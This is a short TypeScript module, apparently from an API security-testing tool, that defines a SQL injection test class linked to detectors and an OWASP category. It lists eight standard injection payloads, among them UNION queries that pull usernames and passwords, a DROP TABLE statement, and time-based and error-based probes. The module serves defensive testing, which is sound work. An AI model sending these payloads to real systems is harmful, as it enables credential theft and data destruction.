import type { AbuseClass } from '../abuse-contract.js';
import { payloadAttack } from '../building/payload-attack.js';

const PAYLOADS = [
  "1' OR '1'='1",
  "1' UNION SELECT username, password FROM users-- -",
  '1; DROP TABLE sessions--',
  "' AND SLEEP(5)-- ",
  '1) OR (SELECT COUNT(*) FROM information_schema.tables)>0--',
  '-1 UNION ALL SELECT NULL,NULL,version()--',
  "1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version)))-- ",
  '1/**/oR/**/1=1',
] as const;

export const sqlInjection: AbuseClass = {
  id: 'sql-injection',
  title: 'SQL injection',
  detectors: ['injection-attempt', 'abnormal-parameter', 'parameter-fuzzing', 'error-oracle'],
  owasp: 'API8:2023',
  needs: 'an identified caller of an endpoint that reads',
  plan: (target, occasion) => payloadAttack(target, occasion, 'SQL injection', PAYLOADS, ['query']),
};
